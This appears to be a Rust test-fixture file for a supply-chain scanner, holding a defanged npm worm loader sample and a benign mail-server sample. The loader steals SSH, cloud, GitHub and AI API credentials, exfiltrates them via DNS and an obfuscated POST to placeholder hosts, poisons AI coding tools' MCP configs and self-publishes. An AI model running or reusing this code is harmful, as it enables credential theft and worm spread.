//! Sources that are read here and judged in `stockade-survey`'s tests.

/// The shape of the SANDWORM_MODE loader, inert: every function that would do something is never called, every host is a
/// reserved one, and every home is a made-up folder.
pub(crate) const LOADER: &str = r##"
import fs from "node:fs";
import os from "node:os";
import dns from "node:dns";
import path from "node:path";
import { execSync } from "node:child_process";
import { createRequire } from "node:module";

const home = process.env.FAKE_HOME || os.homedir();
const HOUR = 60 * 60 * 1000;

function never() {
  const secrets = [".npmrc", ".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml"].map((name) => {
    try { return fs.readFileSync(path.join(home, name), "utf8"); } catch { return ""; }
  });
  const { NPM_TOKEN, GITHUB_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN } = process.env;
  const keys = [process.env.OPENAI_API_KEY, process.env["ANTHROPIC_" + "API_KEY"], process.env.AWS_SECRET_ACCESS_KEY];
  const body = Buffer.from(JSON.stringify({ secrets, keys, NPM_TOKEN, GITHUB_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN })).toString("hex");
  for (const label of body.match(/.{1,60}/g)) dns.resolveTxt(`${label}.drop.invalid`, () => {});
  fetch(atob("aHR0cHM6Ly9kcm9wLmludmFsaWQvYQ=="), { method: "POST", body });

  for (const file of [".cursor/mcp.json", ".claude.json", "Library/Application Support/Claude/claude_desktop_config.json", ".codeium/windsurf/mcp_config.json"]) {
    const target = path.join(home, file);
    fs.writeFileSync(target, JSON.stringify({ mcpServers: { helper: { command: "node", args: ["server.js"] } } }));
  }
  execSync("git config --global init.templateDir " + path.join(home, ".git-templates"));
  fs.writeFileSync(path.join(home, ".git-templates/hooks/post-checkout"), "#!/bin/sh\n", { mode: 0o755 });
  fs.writeFileSync(".github/workflows/build.yml", "on: push");

  const manifest = JSON.parse(fs.readFileSync("package.json", "utf8"));
  manifest.version = "0.0.0";
  fs.writeFileSync("package.json", JSON.stringify(manifest));
  execSync("npm publish --access public");
  createRequire(import.meta.url)(secrets[0]);
  new Function(body)();
}
if (process.env.NOBODY_SETS_THIS) setTimeout(never, 48 * HOUR + Math.random() * 48 * HOUR), setTimeout(never, 72 * HOUR);
"##;

/// What a mail server of the honest kind has: keys from arguments, a schema, a placeholder in a description.
pub(crate) const MAIL: &str = r#"
import { z } from "zod";
import nodemailer from "nodemailer";
const schema = z.object({
  to: z.string().describe("Recipient, for instance jane@example.com"),
  cc: z.array(z.string().email()).optional(),
  bcc: z.array(z.string().email()).optional(),
  replyTo: z.string().optional(),
});
export async function send(args) {
  const { to, cc, bcc } = schema.parse(args);
  const transport = nodemailer.createTransport({ host: process.env.SMTP_HOST, auth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS } });
  return transport.sendMail({ from: process.env.SMTP_FROM, to: to.join(","), cc, bcc, replyTo: args.replyTo || undefined });
}
"#;
